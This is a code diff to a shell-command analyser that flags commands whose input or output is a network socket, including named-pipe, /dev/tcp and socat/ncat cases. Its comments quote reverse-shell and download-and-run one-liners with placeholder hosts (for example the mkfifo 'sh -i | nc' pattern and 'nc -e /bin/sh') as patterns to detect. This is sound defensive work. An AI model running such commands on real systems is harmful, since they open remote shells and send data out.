@@ -59,6 +59,10 @@ class Command:
     # stdin), `background`, `repeatedly` (in an endless loop, or a function calling itself)
     network: list[Endpoint] = field(default_factory=list)
     runs: set[str] = field(default_factory=set)
+    # `stdin`, `stdout`: its standard input comes from a connection (a socket redirected into
+    # it, a pipe from a command that reaches the network, the socket a network tool runs it on),
+    # its standard output goes to one
+    sockets: set[str] = field(default_factory=set)
     # Flow (docs/design/commands.md#flow): the commands whose output reaches it, and how
     inputs: dict[int, set[str]] = field(default_factory=dict)
 
@@ -82,6 +86,7 @@ def build(runs: Sequence[object], root: str | None, grammars: Grammars) -> list[
     budget = MAX_PATHS
     hops: list[list[Hop]] = []
     inner: list[tuple[int, list[Command]]] = []
+    socketed: list[Command] = []
     for run in runs:
         assert isinstance(run, Run)
         program = program_of(run.argv[0]) if run.argv else ""
@@ -106,8 +111,15 @@ def build(runs: Sequence[object], root: str | None, grammars: Grammars) -> list[
         if program == "ln":
             _links(parsed, run, where)
         hops.append(_hops(command, run, out))
+        for source in run.stdin_from:  # a pipe between a command and the network
+            if source < len(out) and out[source].network:
+                command.sockets.add("stdin")
+            if source < len(out) and command.network:
+                out[source].sockets.add("stdout")
         out.append(command)
         inner.append((len(out) - 1, _runs_commands(parsed, run, where, grammars)))
+        socketed += _socket_commands(command, parsed, run, root, grammars)
+    _fifo_hops(out, runs, hops)
     flows = follow(hops)
     for n, command in enumerate(out):
         command.inputs = flows.sources(n)
@@ -121,6 +133,61 @@ def build(runs: Sequence[object], root: str | None, grammars: Grammars) -> list[
             else:
                 command.paths = []
             out.append(command)
+    return out + socketed
+
+
+def _fifo_hops(commands: list[Command], runs: Sequence[object], hops: list[list[Hop]]) -> None:
+    """A named pipe (`mkfifo f`, `mknod f p`) carries what one command writes into it to the
+    one that reads it, whichever comes first in the line: the two run at the same time
+    (`cat f | sh -i | nc h p > f`)."""
+    fifos = {
+        use.place.text
+        for c in commands
+        if c.program == "mkfifo" or (c.program == "mknod" and "p" in c.operands[1:2])
+        for use in c.paths[: None if c.program == "mkfifo" else 1]
+    }
+    if not fifos:
+        return
+    for reader, (c, run) in enumerate(zip(commands, runs, strict=False)):
+        stdin = _stdin_files(run)
+        for use in c.paths:
+            if use.place.text not in fifos or use.role not in ("reads", "runs"):
+                continue
+            code = use.role == "runs" or ("stdin" in c.runs and use.word in stdin)
+            for writer, w in enumerate(commands):
+                wrote = any(u.place.text == use.place.text and u.role == "writes" for u in w.paths)
+                if writer != reader and wrote:
+                    hops[reader].append(Hop(writer, "file", code))
+
+
+def _stdin_files(run: object) -> set[str]:
+    """The files a command's stdin is redirected from (`sh < x.sh`, `sh 0</tmp/p`)."""
+    from agentstyle.shell import Run
+
+    assert isinstance(run, Run)
+    return {target for op, target in run.redirs if _redirected(op) == {"stdin"}}
+
+
+def _socket_commands(
+    command: Command, parsed: Parsed, run: object, root: str | None, grammars: Grammars
+) -> list[Command]:
+    """What a network tool runs on its connection (`nc -e /bin/sh`, `ncat --sh-exec 'sh -i'`,
+    `socat TCP:h:p EXEC:'bash -li'`): commands of their own whose stdin and stdout are the
+    connection, after the shell's own (so that positions stay those of ShellParse.runs)."""
+    from agentstyle.shell import Run, parse_shell
+
+    assert isinstance(run, Run)
+    if not command.network or run.remote:
+        return []
+    valued = [*parsed.operands, *((v, r) for _n, v, r in parsed.option_values)]
+    texts = [w for w, r in valued if r in ("runs", "code")]
+    texts += [p for w, r in valued if r == "address" and (p := network.from_socat(w).program)]
+    out: list[Command] = []
+    for text in texts[:MAX_INNER]:
+        folder = run.dirs[0] if run.dirs and run.dirs[0].startswith("/") else root or "/"
+        for inner in build(parse_shell(text, folder).runs, root, grammars):
+            inner.sockets |= {"stdin", "stdout"}
+            out.append(inner)
     return out
 
 
@@ -145,10 +212,10 @@ def _effects(command: Command, parsed: Parsed, run: object, grammar: Grammar | N
         elif role == "port":
             ports.append(word)
         elif role == "address":
-            end, program = network.from_socat(word)
-            if end is not None:
-                command.network.append(end)
-            if program is not None:
+            address = network.from_socat(word)
+            if address.end is not None:
+                command.network.append(address.end)
+            if address.program is not None:
                 command.runs.add("string")
         elif role == "runs":
             command.runs.add("stdin" if word in ("-", "/dev/stdin") else "script")
@@ -163,16 +230,39 @@ def _effects(command: Command, parsed: Parsed, run: object, grammar: Grammar | N
             command.network.append(network.Endpoint(kind if not host else "connect", host, port))
     if listening and not any(e.kind == "listen" for e in command.network):
         command.network.append(network.Endpoint("listen", "", ""))
-    for _op, target in run.redirs:
+    for op, target in run.redirs:
         end = network.from_redirection(target)
         if end is not None:
             command.network.append(end)
+            command.sockets |= _redirected(op)
+    for use in command.paths:  # `tar -cf /dev/tcp/h/p`, `tar -cf /dev/fd/3` after `exec 3>…`
+        end = network.from_redirection(use.word)
+        if end is not None and use.role in ("writes", "reads", "path"):
+            command.network.append(end)
+    command.network = list(dict.fromkeys(command.network))  # a socket named twice is one end
     if grammar is not None and parsed.program_from_stdin:
         command.runs.add("stdin")
     if run.background:
         command.runs.add("background")
     if run.repeating:
         command.runs.add("repeatedly")
+
+
+# Options with which a download is not saved under its URL's name.
+_NAMED_ELSEWHERE = frozenset(
+    {"--remote-header-name", "--no-clobber", "--content-disposition", "--trust-server-names"}
+)
+
+
+def _redirected(op: str) -> set[str]:
+    """Which of stdin and stdout a redirection's operator gives the file: `<`, `0<`, `<>`
+    stdin; `>`, `>>`, `1>`, `>&`, `&>` stdout; `2>` and other descriptors neither."""
+    fd = op.rstrip("<>&|")
+    if op.startswith("&") or (not fd and op.startswith(">")) or fd == "1":
+        return {"stdout"}
+    if not fd and op == "<>":
+        return {"stdin"}
+    return {"stdin"} if fd in ("", "0") and op.lstrip("0").startswith("<") else set()
 
 
 # Programs whose `host:path` operands are on another machine (a copy over the network).
@@ -187,16 +277,23 @@ def _hops(command: Command, run: object, before: list[Command]) -> list[Hop]:
     runs_code = bool(command.runs & {"script", "string", "stdin"})
     out = [Hop(n, "stdin", "stdin" in command.runs) for n in run.stdin_from if n < len(before)]
     out += [Hop(n, "words", runs_code) for n in run.args_from if n < len(before)]
-    mine = [(use.place.text, use.role) for use in command.paths if use.role != "writes"]
+    out += [Hop(n, "words", False) for n in run.data_from if n < len(before)]
+    stdin = _stdin_files(run) if "stdin" in command.runs else set()
+    mine = [
+        (use.place.text, use.role == "runs" or use.word in stdin)
+        for use in command.paths
+        if use.role != "writes"
+    ]
     for n, earlier in enumerate(before):
         for use in earlier.paths:
             if use.role != "writes":
                 continue
-            # a file written there, or into that folder (`rsync h:p.sh . && bash p.sh`)
+            # a file written there, or into that folder (`rsync h:p.sh . && bash p.sh`); run
+            # when it is the script, or the stdin of a shell (`curl -o x … && sh < x`)
             written = use.place.text.rstrip("/")
-            for text, role in mine:
+            for text, runs_it in mine:
                 if text == written or text.startswith(written + "/"):
-                    out.append(Hop(n, "file", role == "runs"))
+                    out.append(Hop(n, "file", runs_it))
     return out
 
 
@@ -277,6 +374,14 @@ def _paths(parsed: Parsed, run: object, where: Where) -> list[PathUse]:
     dirs = _dirs(parsed, run)
     words: list[tuple[str, str]] = [(w, r) for w, r in parsed.operands if r in PATH_ROLES]
     words += [(v, r) for _n, v, r in parsed.option_values if r in PATH_ROLES and r != "cwd"]
+    for w, r in [*parsed.operands, *((v, r) for _n, v, r in parsed.option_values)]:
+        if r == "address":  # socat's OPEN:file, CREATE:file
+            address = network.from_socat(w)
+            words += [(f, "reads") for f in (address.reads,) if f]
+            words += [(f, "writes") for f in (address.writes,) if f]
+    if run.fds:  # `/dev/fd/3` is the file fd 3 was opened on (`exec 3>/dev/tcp/…`)
+        opened = dict(run.fds)
+        words = [(_opened(w, opened), r) for w, r in words]
     words = [(w, r) for w, r in words if w != "-"]  # `-o -`: stdout, not a file
     named = len(words)  # operands and option values; what they imply and redirections follow
     # `curl -d @file`, `--data-binary @file` read the file (`@-` is stdin)
@@ -290,7 +395,10 @@ def _paths(parsed: Parsed, run: object, where: Where) -> list[PathUse]:
     ]
     if run.argv and "/" in run.argv[0] and not run.argv[0].startswith("$"):
         words.append((run.argv[0], "runs"))  # `./x`: the file it runs
-    if parsed.saves_urls:  # `curl -O https://x/p.sh`, `wget https://x/p.sh`: writes p.sh
+    # `curl -O https://x/p.sh`, `wget https://x/p.sh`: writes p.sh (not when the server names
+    # the file, `-J`, or an existing one makes it p.sh.1, `--no-clobber`)
+    named_elsewhere = {n for n, _v in parsed.options} & _NAMED_ELSEWHERE
+    if parsed.saves_urls and not named_elsewhere:
         words += [(name, "writes") for w, r in valued if r == "url" and (name := _saved(w))]
     for op, target in run.redirs:
         if target == "/dev/null" or not target:
@@ -319,6 +427,16 @@ def _paths(parsed: Parsed, run: object, where: Where) -> list[PathUse]:
         unknown = Place(RUNTIME_WORD, (RUNTIME_WORD,), frozenset({"is:unknown"}))
         out.append(PathUse(RUNTIME_WORD, _operand_roles(parsed)[-1].removesuffix("..."), unknown))
     return out
+
+
+def _opened(word: str, opened: dict[str, str]) -> str:
+    """`/dev/fd/N` (`/proc/self/fd/N`) as the file descriptor N was opened on, when known."""
+    from agentstyle.shell.runs import FD_PATHS
+
+    for prefix in FD_PATHS:
+        if word.startswith(prefix) and word[len(prefix) :] in opened:
+            return opened[word[len(prefix) :]]
+    return word
 
 
 def _listed(uses: list[PathUse], parsed: Parsed, where: Where) -> list[PathUse]:
@@ -405,6 +523,8 @@ def describe(command: Command) -> str:
     runs = sorted(command.runs) + (["remote"] if command.remote else [])
     if runs:
         parts.append("runs=" + ",".join(runs))
+    if command.sockets:
+        parts.append("network-" + ",".join(sorted(command.sockets)))
     for end in command.network:
         where = ":".join(x for x in (end.host, end.port) if x) or "?"
         parts.append(f"network={end.kind}:{where}")
